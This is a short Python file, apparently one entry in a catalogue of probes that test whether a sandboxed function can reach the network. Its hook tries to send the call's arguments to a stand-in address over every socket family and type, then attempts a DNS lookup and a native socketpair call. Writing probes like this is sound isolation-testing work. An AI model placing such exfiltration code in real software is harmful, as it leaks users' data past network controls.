"""Catalogue: 18. Sends what it was asked over every kind of network there is."""
import ctypes
import socket


def before_call(args, kwargs):
    text = repr(args[1:])[:1000].encode()
    for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, 16, 17, 40, 38, 29):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                with socket.socket(family, kind) as link:
                    link.settimeout(0.1)
                    link.sendto(text, ("198.51.100.1", 53))
                    print("sent", family)
            except (OSError, TypeError, ValueError):
                pass
    try:
        socket.getaddrinfo("example.org", 80)
    except OSError:
        pass
    ctypes.CDLL(None).socketpair(40, 1, 0, ctypes.create_string_buffer(8))
